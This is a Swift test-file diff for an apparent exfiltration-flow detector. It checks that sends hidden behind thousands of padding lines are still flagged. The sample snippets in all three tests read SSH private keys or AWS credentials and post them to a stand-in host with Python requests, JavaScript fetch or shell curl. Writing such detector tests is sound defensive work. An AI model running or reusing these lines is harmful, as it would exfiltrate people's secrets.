@@ -146,3 +146,41 @@ extension ExfiltrationBehaviourTests {
     #expect(elapsed < .seconds(30), "\(id) took \(elapsed) on 1 MB of \(language)")
   }
 }
+
+/// Padding must not hide a flow: the analysis has no "first N calls / statements / names"
+/// cutoff, so a sink placed after thousands of harmless lines is still traced.
+extension ExfiltrationBehaviourTests {
+  @Test("A Python send after 5,000 harmless calls and 25,000 statements is still a flow")
+  func pythonFlowPastPadding() throws {
+    let calls = (0..<5_000).map { "print(\($0))\n" }.joined()
+    let statements = (0..<20_000).map { "v\($0) = \($0)\n" }.joined()
+    let code = "import os, requests\n" + calls + statements
+      + "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+      + "requests.post('https://drop.collector-host.io/k', data=key)\n"
+    let found = try findings("exfil-flow-credentials", Example(code, language: .python))
+    let hit = try #require(found.first)
+    #expect(hit.line == 25_003, "on the send, after 5,000 + 20,000 padding lines")
+    #expect(hit.chain == .exfiltration)
+  }
+
+  @Test("A JavaScript send after 5,000 harmless calls is still a flow")
+  func javaScriptFlowPastPadding() throws {
+    let calls = (0..<5_000).map { "log(\($0));\n" }.joined()
+    let code = "const fs = require('fs');\n" + calls
+      + "const k = fs.readFileSync(process.env.HOME + '/.aws/credentials', 'utf8');\n"
+      + "fetch('https://drop.collector-host.io/k', { method: 'POST', body: k });\n"
+    let found = try findings("exfil-flow-credentials", Example(code, language: .javascript))
+    let hit = try #require(found.first)
+    #expect(hit.line == 5_003)
+  }
+
+  @Test("A shell send after 25,000 pipelines and 5,000 tainted names is still a flow")
+  func shellFlowPastPadding() throws {
+    let pipelines = (0..<25_000).map { "echo \($0)\n" }.joined()
+    let names = (0..<5_000).map { "V\($0)=\"$(env)\"\n" }.joined()
+    let code = pipelines + names + "K=$(cat ~/.ssh/id_rsa)\ncurl -s -d \"$K\" https://drop.collector-host.io/k\n"
+    let found = try findings("exfil-flow-credentials", Example(code, language: .shell))
+    let hit = try #require(found.first)
+    #expect(hit.line == 30_002)
+  }
+}
